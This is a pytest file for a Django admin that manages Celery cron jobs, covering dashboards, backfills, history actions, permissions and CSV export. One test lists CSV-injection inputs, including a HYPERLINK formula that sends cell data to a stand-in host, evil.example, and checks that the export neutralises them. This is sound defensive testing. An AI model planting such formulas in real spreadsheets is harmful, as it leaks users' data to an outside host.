"""The admin: the jobs dashboard, the execution history, the outbox, and their actions —
through Django's test client against the real database (the browser tests look at it)."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io

import pytest
from django.conf import settings
from django.contrib.auth.models import Permission
from django.db import connection
from django.test import RequestFactory, override_settings
from django.test.utils import CaptureQueriesContext
from django_celery_beat.models import PeriodicTask

from cron_celery.beat import schedule_sync
from cron_celery.decisions import claims, dispatch, finishes
from cron_celery.decisions import jobs as job_rows
from cron_celery.models import Alert, AlertStatus, CronExecution, CronJob, Status, Trigger
from cron_celery.run import backfill
from tests.admin_forms import submit
from tests.jobsapp import tasks as jobs

pytestmark = pytest.mark.django_db(transaction=True)
DASHBOARD = "/admin/cron_celery/cronjob/"
HISTORY = "/admin/cron_celery/cronexecution/"
SLOT = dt.datetime(2026, 11, 29, 1, 0, tzinfo=dt.UTC)


def history(job_id: int, count: int, status: str = Status.SUCCEEDED, *, start: int = 1) -> None:
    """``count`` finished executions of one job, one per minute from ``start`` minutes before
    now backwards, in one statement."""
    with connection.cursor() as cursor:
        cursor.execute(
            f"""
            INSERT INTO {CronExecution._meta.db_table} (job_id, task_code, task_name, slot, execution_date, run_number,
                status, trigger, skip_reason, forced, created_at, started, ended, completed, success, message,
                error_code, traceback, retry_count, celery_task_id, worker, fence)
            SELECT j.id, j.code, j.name, date_trunc('minute', now()) - make_interval(mins => g), now()::date, 1, %s,
                   'BEAT', '', false, now(), now() - make_interval(mins => g, secs => 1 + g %% 7),
                   now() - make_interval(mins => g), true, %s = 'SUCCEEDED', 'done', '', '', 0, '', 'w', g
            FROM {CronJob._meta.db_table} AS j, generate_series(%s, %s) AS g WHERE j.id = %s
            """,
            [status, status, start, start + count - 1, job_id],
        )


def test_the_dashboard_shows_each_jobs_health_in_a_bounded_number_of_queries(admin_client):
    schedule_sync.sync()
    job_ids = [job_rows.job_id(job.job) for job in (jobs.tick_2s, jobs.nightly_report, jobs.calc_commission)]
    history(job_ids[0], 40)
    history(job_ids[1], 5, Status.FAILED)
    CronJob.objects.filter(id=job_ids[1]).update(last_status=Status.FAILED, consecutive_failures=5)
    CronJob.objects.filter(id=job_ids[0]).update(last_status=Status.SUCCEEDED)
    with CaptureQueriesContext(connection) as queries:
        page = admin_client.get(DASHBOARD)
    assert page.status_code == 200
    html = page.content.decode()
    assert html.count('class="cron-chart"') >= 2 and "<rect" in html
    assert "every 2 seconds" in html and "every day at 02:00" in html and "Europe/Amsterdam" in html
    assert ">failed<" in html and ">succeeded<" in html
    assert "100 % of 40" in html and "0 % of 5" in html
    task = CronJob.objects.get(id=job_ids[0]).periodic_task
    assert task is not None and f"/admin/django_celery_beat/periodictask/{task.id}/change/" in html
    assert len(queries) <= 20, [query["sql"][:120] for query in queries.captured_queries]


def test_with_many_jobs_the_history_lists_only_the_job_chosen_in_its_filter(admin_client, monkeypatch):
    from cron_celery.admin import base as cron_admin

    schedule_sync.sync()
    chosen, other = job_rows.job_id(jobs.tick_2s.job), job_rows.job_id(jobs.nightly_report.job)
    history(chosen, 3)
    history(other, 2)
    names = CronJob.objects.values_list("name", flat=True)
    assert f"?job={chosen}" in admin_client.get(HISTORY).content.decode()  # a few jobs: each is listed
    monkeypatch.setattr(cron_admin, "JOB_FILTER_LISTS_UP_TO", 1)
    page = admin_client.get(HISTORY).content.decode()
    assert "?job=" not in page  # too many to list: no job filter, every job's runs shown
    assert page.count("done") >= 5
    page = admin_client.get(f"{HISTORY}?job={chosen}").content.decode()
    assert f"?job={other}" not in page and "?job=" in page  # the job chosen, and its runs only
    assert sum(page.count(f">{name}<") for name in names if name != "tick-2s") == 0
    assert admin_client.get(f"{HISTORY}?job=999999").content.decode().count("done") == 0  # a job since deleted


def test_the_dashboard_counts_its_jobs_once_and_exactly_while_they_are_few(admin_client):

    schedule_sync.sync()
    with CaptureQueriesContext(connection) as queries:
        assert admin_client.get(DASHBOARD).status_code == 200
    counts = [query["sql"] for query in queries.captured_queries if '"__count"' in query["sql"]]
    assert len(counts) == 1  # no second count of every job for "(N total)"
    jobs_count = CronJob.objects.count()
    from django.contrib import admin as django_admin

    from cron_celery.admin.jobs import CronJobAdmin

    page_admin = CronJobAdmin(CronJob, django_admin.site)
    listed = page_admin.get_paginator(RequestFactory().get(DASHBOARD), CronJob.objects.all(), 50)
    assert listed.count == jobs_count  # few rows: counted exactly, not estimated


def test_pause_and_resume_go_through_the_periodic_task(admin_client):
    schedule_sync.sync()
    job = CronJob.objects.get(name="tick-2s")
    response = admin_client.post(DASHBOARD, {"action": "pause", "apply": "1", "_selected_action": [job.id]})
    assert response.status_code == 302
    assert PeriodicTask.objects.get(id=job.periodic_task_id).enabled is False
    assert CronJob.objects.get(id=job.id).paused is True  # the database trigger followed
    admin_client.post(DASHBOARD, {"action": "resume", "_selected_action": [job.id]})
    assert PeriodicTask.objects.get(id=job.periodic_task_id).enabled is True
    assert CronJob.objects.get(id=job.id).paused is False


def test_run_now_sends_an_admin_run(admin_client):
    job_id = job_rows.job_id(jobs.calc_commission.job)
    response = admin_client.post(DASHBOARD, {"action": "run_now", "_selected_action": [job_id]}, follow=True)
    assert "sent (execution" in response.content.decode()
    row = CronExecution.objects.get(job_id=job_id)
    assert (row.status, row.trigger, row.forced) == (Status.PENDING, Trigger.ADMIN, True) and row.celery_task_id


def test_the_backfill_form_sends_the_slots_of_a_range(admin_client):
    schedule_sync.sync()
    job_id = job_rows.job_id(jobs.nightly_report.job)
    form = admin_client.post(DASHBOARD, {"action": "backfill_range", "_selected_action": [job_id]})
    assert form.status_code == 200 and "Send the slots" in form.content.decode()
    done = admin_client.post(DASHBOARD, {"action": "backfill_range", "_selected_action": [job_id], "apply": "1",
                                         "start": "2026-11-01", "end": "2026-11-03"}, follow=True)
    assert "Nightly-report: 3 slots recorded, 3 sent now." in done.content.decode()
    rows = list(CronExecution.objects.filter(job_id=job_id).order_by("slot"))
    assert [row.slot for row in rows] == [dt.datetime(2026, 11, day, 1, 0, tzinfo=dt.UTC) for day in (1, 2, 3)]
    assert {row.trigger for row in rows} == {Trigger.BACKFILL}
    bad = admin_client.post(DASHBOARD, {"action": "backfill_range", "_selected_action": [job_id], "apply": "1",
                                        "start": "2026-11-05", "end": "2026-11-01"}, follow=True)
    assert "before it starts" in bad.content.decode()


def test_a_large_backfill_from_the_admin_sends_a_few_slots_itself_and_hands_the_rest_to_a_worker(
        admin_client, queue):
    """The request publishes ``IN_REQUEST`` slots and one message for the rest; that task (run here
    as a worker would) publishes the others; the page says how far it got and links the history."""
    schedule_sync.sync()
    job = jobs.nightly_report.job
    job_id = job_rows.job_id(job)
    done = admin_client.post(DASHBOARD, {"action": "backfill_range", "_selected_action": [job_id], "apply": "1",
                                         "start": "2026-10-01", "end": "2026-10-31"}, follow=True)
    page = done.content.decode()
    assert f"Nightly-report: 31 slots recorded, {backfill.IN_REQUEST} sent now, 11 being sent by a worker." in page
    assert f"?job={job_id}&amp;trigger__exact=BACKFILL" in page
    rows = list(CronExecution.objects.filter(job_id=job_id).order_by("slot"))
    assert len(rows) == 31 and {row.status for row in rows} == {Status.PENDING}
    messages = queue.headers()
    (handover,) = [m for m in messages if m["task"] == "cron_celery.publish_backfill"]
    sent_now = [m["id"] for m in messages if m["task"] == job.task_name]
    assert sent_now == [row.celery_task_id for row in rows[:backfill.IN_REQUEST]]
    code, later_ids = ast.literal_eval(handover["argsrepr"])
    assert code == job.code and later_ids == [row.id for row in rows[backfill.IN_REQUEST:]]
    assert backfill.publish_backfill(code, later_ids) == 11
    published = [m["id"] for m in queue.headers() if m["task"] == job.task_name]
    assert published == [row.celery_task_id for row in rows]
    list_page = admin_client.get(f"/admin/cron_celery/cronexecution/?job={job_id}&trigger__exact=BACKFILL")
    assert list_page.status_code == 200 and "31 cron executions" in list_page.content.decode()


def test_the_history_detail_shows_every_attempt_and_the_alerts(admin_client):
    job = jobs.calc_commission.job
    job_id = job_rows.job_id(job)
    execution_id, _ = dispatch.enqueue(job=job, job_id=job_id, slot=SLOT, execution_date=SLOT.date(),
                                     trigger=Trigger.BEAT)
    claim = claims.begin(job=job, job_id=job_id, slot=SLOT, execution_date=SLOT.date(), trigger=Trigger.BEAT,
                         execution_id=execution_id, worker="host-a", pid=11)
    assert claim.fence is not None
    CronJob.objects.filter(id=job_id).update(max_retries=1)
    assert finishes.retry(job_id=job_id, execution_id=execution_id, fence=claim.fence, status=Status.FAILED,
                        message="partner API <down>", error_code="HTTP_503", traceback="", countdown=0)
    Alert.objects.create(execution_id=execution_id, job_id=job_id, event="FAILED", channel="slack",
                         status=AlertStatus.FAILED, attempts=5, last_error="HTTP 500: ***")
    page = admin_client.get(f"{HISTORY}{execution_id}/change/").content.decode()
    assert "host-a / 11" in page and "HTTP_503" in page and "partner API &lt;down&gt;" in page
    assert "HTTP 500: ***" in page and "slack" in page
    listing = admin_client.get(f"{HISTORY}?status__exact=RETRYING&q={job.code}").content.decode()
    assert f"/admin/cron_celery/cronexecution/{execution_id}/change/" in listing


def test_history_actions_rerun_mark_lost_and_export_csv(admin_client):
    job = jobs.calc_commission.job
    job_id = job_rows.job_id(job)
    history(job_id, 3)
    stuck, _ = dispatch.enqueue(job=job, job_id=job_id, slot=SLOT, execution_date=SLOT.date(), trigger=Trigger.BEAT)
    finished = list(CronExecution.objects.filter(job_id=job_id, status=Status.SUCCEEDED).values_list("id", flat=True))
    marked = admin_client.post(HISTORY, {"action": "mark_lost", "_selected_action": [stuck, finished[0]]}, follow=True)
    assert "1 execution(s) marked LOST" in marked.content.decode()
    row = CronExecution.objects.get(id=stuck)
    assert (row.status, row.error_code, row.completed) == (Status.LOST, "MARKED_LOST", True)
    assert CronExecution.objects.get(id=finished[0]).status == Status.SUCCEEDED
    admin_client.post(HISTORY, {"action": "rerun", "_selected_action": [finished[0]]})
    again = CronExecution.objects.filter(job_id=job_id, trigger=Trigger.ADMIN).get()
    assert again.forced and again.run_number == 2 and again.status == Status.PENDING
    export = admin_client.post(HISTORY, {"action": "export_csv", "_selected_action": finished})
    assert export.status_code == 200 and export.streaming
    text = b"".join(export.streaming_content).decode()  # type: ignore[attr-defined]
    table = list(csv.reader(io.StringIO(text)))
    assert table[0][:3] == ["id", "task_name", "task_code"] and len(table) == 1 + len(finished)
    assert {int(line[0]) for line in table[1:]} == set(finished)


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1"]


def test_the_csv_export_neutralises_cells_that_a_spreadsheet_would_run_as_formulas(admin_client):
    job = jobs.calc_commission.job
    job_id = job_rows.job_id(job)
    history(job_id, len(FORMULAS) + 1)
    rows = list(CronExecution.objects.filter(job_id=job_id).order_by("id"))
    for row, text in zip(rows, [*FORMULAS, "plain = text, 'quoted'"], strict=True):
        CronExecution.objects.filter(id=row.id).update(message=text, error_code=text[:20], worker=text[:50])
    export = admin_client.post(HISTORY, {"action": "export_csv", "_selected_action": [row.id for row in rows]})
    assert export.status_code == 200
    table = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode(), newline="")))
    header, lines = table[0], table[1:]
    column = {name: header.index(name) for name in ("message", "error_code", "worker", "fence", "slot")}
    assert [line[column["message"]] for line in lines] == [*("'" + text for text in FORMULAS),
                                                            "plain = text, 'quoted'"]
    assert [line[column["error_code"]] for line in lines][:len(FORMULAS)] == ["'" + text[:20] for text in FORMULAS]
    assert all(line[column["worker"]].startswith("'") for line in lines[:len(FORMULAS)])
    for line in lines:  # no cell of any column starts a formula; numbers and dates are left as they are
        assert not [cell for cell in line if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert line[column["fence"]].isdigit() and line[column["slot"]][:4].isdigit()


def test_the_dashboard_shows_a_banner_while_this_processs_checks_find_an_error(admin_client):
    assert "cron-check-banner" not in admin_client.get(DASHBOARD).content.decode()
    with override_settings(CRON_CELERY={**settings.CRON_CELERY, "LOCK": {"TTL": 120}, "LEASE_SECONDS": 60,
                                        "API_TOKENS": {"x": {"token": "short", "scopes": ["read"]}}}):
        page = admin_client.get(DASHBOARD).content.decode()
    banner = page[page.index('class="cron-check-banner"'):page.index("</div>", page.index("cron-check-banner"))]
    assert 'role="alert"' in page and "found 2 errors in this web process" in banner
    assert "cron_celery.E007" in banner and "Keep the lock TTL at or below the lease" in banner
    assert "cron_celery.E014" in banner and "shorter than 32 characters" in banner
    assert page.index("cron-check-banner") < page.index('id="changelist"')  # above the list
    assert "cron-check-banner" not in admin_client.get(DASHBOARD).content.decode()  # fixed: gone


def test_marking_a_retried_running_execution_lost_ends_its_attempt_in_the_history(admin_client):
    job_id = job_rows.job_id(jobs.calc_commission.job)
    history(job_id, 1)
    execution = CronExecution.objects.get(job_id=job_id)
    attempts = [{"attempt": 1, "started": "2026-11-29T01:00:00+00:00", "ended": "2026-11-29T01:00:05+00:00",
                 "status": "FAILED", "error_code": "JOB_ERROR"},
                {"attempt": 2, "started": "2026-11-29T01:00:10+00:00", "worker": "w", "pid": 7, "fence": 2}]
    CronExecution.objects.filter(id=execution.id).update(status=Status.RUNNING, completed=False, success=None,
                                                         retry_count=1, attempts=attempts)
    admin_client.post(HISTORY, {"action": "mark_lost", "_selected_action": [execution.id]})
    row = CronExecution.objects.get(id=execution.id)
    assert row.status == Status.LOST
    assert [entry.get("status") for entry in row.attempts] == ["FAILED", "LOST"]
    assert row.attempts[1]["ended"] and row.attempts[1]["error_code"] == row.error_code


def test_alerts_can_be_sent_again(admin_client):
    job_id = job_rows.job_id(jobs.calc_commission.job)
    history(job_id, 1, Status.FAILED)
    execution = CronExecution.objects.get(job_id=job_id)
    alert = Alert.objects.create(execution=execution, job_id=job_id, event="FAILED", channel="webhook",
                                 status=AlertStatus.FAILED, attempts=5, last_error="HTTP 500")
    response = admin_client.post("/admin/cron_celery/alert/", {"action": "resend", "_selected_action": [alert.id]},
                                 follow=True)
    assert "1 alert(s) queued" in response.content.decode()
    alert.refresh_from_db()
    assert (alert.status, alert.last_error) == (AlertStatus.PENDING, "")
    assert alert.attempts == 0  # every attempt again, not one last try


def test_a_staff_user_who_may_only_view_sees_the_jobs_but_cannot_act_on_them(client, django_user_model):
    job_id = job_rows.job_id(jobs.calc_commission.job)
    viewer = django_user_model.objects.create_user("viewer", password="pw-not-used", is_staff=True)
    viewer.user_permissions.add(*Permission.objects.filter(
        content_type__app_label="cron_celery", codename__in=["view_cronjob", "view_cronexecution", "view_alert"]))
    client.force_login(viewer)
    page = client.get(DASHBOARD)
    assert page.status_code == 200 and "calc-commission" in page.content.decode()
    assert 'value="run_now"' not in page.content.decode() and 'value="pause"' not in page.content.decode()
    assert 'value="export_csv"' in client.get(HISTORY).content.decode()  # reading stays allowed
    client.post(DASHBOARD, {"action": "run_now", "_selected_action": [job_id]})
    assert not CronExecution.objects.filter(job_id=job_id).exists()
    viewer.user_permissions.add(Permission.objects.get(content_type__app_label="cron_celery",
                                                       codename="change_cronjob"))
    client.force_login(django_user_model.objects.get(id=viewer.id))  # permissions are cached per user object
    assert 'value="run_now"' in client.get(DASHBOARD).content.decode()
    client.post(DASHBOARD, {"action": "run_now", "_selected_action": [job_id]})
    assert CronExecution.objects.filter(job_id=job_id, trigger=Trigger.ADMIN).count() == 1


def test_the_admin_is_read_only(admin_client):
    job_id = job_rows.job_id(jobs.calc_commission.job)
    history(job_id, 1)
    execution = CronExecution.objects.get(job_id=job_id)
    assert admin_client.post(f"{HISTORY}{execution.id}/change/", {}).status_code == 403
    assert admin_client.get(f"{HISTORY}add/").status_code == 403
    assert submit is not None  # the admin-form helper stays importable for the browser tests


def test_the_upcoming_page_lists_the_next_hour_of_slots_across_jobs(admin_client):
    """Unpaused jobs' slots within the hour, in time order, with the schedule in words; a job that
    runs every second shows its first few and how many more; paused and later jobs are left out."""
    from cron_celery.web import upcoming

    schedule_sync.sync()
    now = dt.datetime.now(dt.UTC).replace(microsecond=0)
    CronJob.objects.update(next_run_at=now + dt.timedelta(hours=2))  # all later, but for these:
    CronJob.objects.filter(name="catch-up-latest").update(next_run_at=now + dt.timedelta(minutes=10), paused=True)
    CronJob.objects.filter(name="tick-2s").update(next_run_at=now + dt.timedelta(seconds=4))
    CronJob.objects.filter(name="tick-1s").update(next_run_at=now - dt.timedelta(seconds=3))  # the beat is behind
    nightly = CronJob.objects.get(name="nightly-report")
    CronJob.objects.filter(id=nightly.id).update(next_run_at=now + dt.timedelta(minutes=30))
    dashboard_page = admin_client.get(DASHBOARD).content.decode()
    assert "/admin/cron_celery/cronjob/upcoming/" in dashboard_page
    page = admin_client.get("/admin/cron_celery/cronjob/upcoming/")
    assert page.status_code == 200
    html = page.content.decode()
    table = html.split('id="upcoming"')[1].split("</table>")[0]
    names = [cell.split("</a>")[0].rsplit(">", 1)[1] for cell in table.split("<td><a href=")[1:]]
    assert names[:upcoming.PER_JOB + 1] == ["tick-1s"] * upcoming.PER_JOB + ["tick-2s"]  # in time order
    assert names.count("tick-1s") == names.count("tick-2s") == upcoming.PER_JOB
    assert names[-1] == "nightly-report" and "hourly-exclusive" not in names and "catch-up-latest" not in names
    assert 3 <= table.count("due now") <= upcoming.PER_JOB  # tick-1s: the slots due (the page reads now later)
    assert "Overdue:" not in html  # 3 s late is within the health endpoint's limit
    assert "every 2 seconds" in table and "every day at 02:00" in table and "Europe/Amsterdam" in table
    more = int(html.split("tick-1s</strong>: ")[1].split(" more slots")[0])
    # An hour of seconds from the page's now, after the five listed (now - 3 s ... now + 1 s).
    assert 3599 <= more <= 3599 + 10


def test_the_upcoming_page_needs_the_view_permission(client):
    from django.contrib.auth import get_user_model

    staff = get_user_model().objects.create_user("no-view", password="x", is_staff=True)
    client.force_login(staff)
    assert client.get("/admin/cron_celery/cronjob/upcoming/").status_code == 403
    staff.user_permissions.add(Permission.objects.get(codename="view_cronjob"))
    assert client.get("/admin/cron_celery/cronjob/upcoming/").status_code == 200


@override_settings(TIME_ZONE="Europe/Amsterdam")
def test_the_upcoming_page_names_a_job_the_beat_left_behind_once(admin_client):
    """A beat down for a week: the job is one line (since when, its catch-up policy), its slots are
    listed from now on, not the week it missed; every time on the page is UTC whatever TIME_ZONE."""
    from cron_celery.web import upcoming

    schedule_sync.sync()
    now = dt.datetime.now(dt.UTC).replace(microsecond=0)
    CronJob.objects.update(next_run_at=now + dt.timedelta(hours=2))
    CronJob.objects.filter(name="tick-1s").update(next_run_at=now - dt.timedelta(days=7))
    html = admin_client.get("/admin/cron_celery/cronjob/upcoming/").content.decode()
    overdue = html.split("<strong>Overdue:</strong>")[1].split("</div>")[0]
    assert "<strong>tick-1s</strong>: not sent since" in overdue and "catch-up <code>" in overdue
    assert f"{now - dt.timedelta(days=7):%Y-%m-%d %H:%M}" in overdue  # in UTC, not Amsterdam's time
    table = html.split('id="upcoming"')[1].split("</table>")[0]
    assert table.count("tick-1s") == upcoming.PER_JOB and "due now" not in table  # from now on
    window = html.split("The slots of every unpaused job from ")[1].split(",")[0]
    assert window.count("UTC") == 2 and f"{now:%H:%M}" in window  # not shown in Europe/Amsterdam
    more = int(html.split("And more of the frequent jobs")[1].split("tick-1s</strong>: ")[1].split(" more slots")[0])
    assert 3600 - upcoming.PER_JOB - 5 <= more <= 3600 - upcoming.PER_JOB


@pytest.mark.parametrize("seconds", [1, 2, 7, 60, 3600])
def test_the_upcoming_count_of_an_interval_is_the_count_of_its_slots(seconds):
    from cron_celery import schedules
    from cron_celery.web import upcoming

    schedule = schedules.Interval(seconds)
    after = dt.datetime(2026, 12, 2, 10, 0, 3, 250_000, tzinfo=dt.UTC)
    for hours in (0.0001, 0.5, 1, 3):
        until = after + dt.timedelta(hours=hours)
        walked = schedules.slots_between(schedule, after, until)
        assert upcoming._count_after(schedule, after, until) == (len(walked), walked[-1] if walked else None)


def _copies_of_a_job(prefix: str, count: int) -> None:
    """``count`` job rows named ``{prefix}000001``..., copies of the first job row, in one statement."""
    table = CronJob._meta.db_table
    with connection.cursor() as cursor:
        cursor.execute("SELECT column_name FROM information_schema.columns WHERE table_schema = current_schema() "
                       "AND table_name = %s AND column_name NOT IN ('id', 'name', 'code', 'periodic_task_id')",
                       [table])
        columns = ", ".join(row[0] for row in cursor.fetchall())
        cursor.execute(f"INSERT INTO {table} (name, code, {columns}) SELECT %s || lpad(g::text, 6, '0'), "
                       f"%s || g::text, {columns} FROM (SELECT * FROM {table} ORDER BY id LIMIT 1) AS j, "
                       f"generate_series(1, %s) AS g", [prefix, prefix.upper()[:4], count])


def test_with_an_estimated_count_below_the_jobs_the_last_jobs_are_still_on_a_dashboard_page(admin_client):
    """Past 10,000 jobs the dashboard's length is PostgreSQL's estimate; jobs declared since the
    table was last analyzed (fewer than autovacuum's 10 % threshold) must still be listed on some
    page, not cut off behind a page number that redirects to ``?e=1``."""
    schedule_sync.sync()
    _copies_of_a_job("bulk-", 10_100)
    with connection.cursor() as cursor:
        cursor.execute(f"ANALYZE {CronJob._meta.db_table}")
    _copies_of_a_job("zz-late-", 200)  # a deploy that declares 200 more jobs: no analyze yet
    with connection.cursor() as cursor:
        cursor.execute("SELECT reltuples::bigint FROM pg_class WHERE oid = %s::regclass", [CronJob._meta.db_table])
        estimate = cursor.fetchone()[0]
    jobs_count = CronJob.objects.count()
    assert 10_000 < estimate < jobs_count - 50  # the precondition: an estimate a page or more short
    last_page = -(-jobs_count // 50)  # sorted by name, the zz-late-... jobs are on the last pages
    response = admin_client.get(f"{DASHBOARD}?p={last_page}")
    assert response.status_code == 200, response.get("Location")  # today: 302 to ?e=1
    assert "zz-late-000200" in response.content.decode()


@pytest.mark.django_db
def test_a_job_declared_after_others_shows_them_as_its_schedule(admin_client, declare):
    """A job declared ``after=`` has no schedule of its own: the dashboard and its page say which jobs
    it runs after, not "no schedule"; ``list_cron_tasks`` says so too (tests/test_commands.py)."""
    from cron_celery.decisions import dependencies
    from cron_celery.schedules import every

    made = [declare("adm-extract", "ADX1", schedule=every(hours=1)), declare("adm-transform", "ADX2",
            schedule=every(hours=1)), declare("adm-load", "ADX3", after=["adm-transform", "adm-extract"])]
    dependencies.sync(made)
    load = CronJob.objects.get(code="ADX3")
    page = admin_client.get("/admin/cron_celery/cronjob/").content.decode()
    assert 'schedule_text">after adm-extract, adm-transform<br>' in page  # its row's schedule cell
    assert "after adm-extract, adm-transform <code>" in admin_client.get(
        f"/admin/cron_celery/cronjob/{load.id}/change/").content.decode()
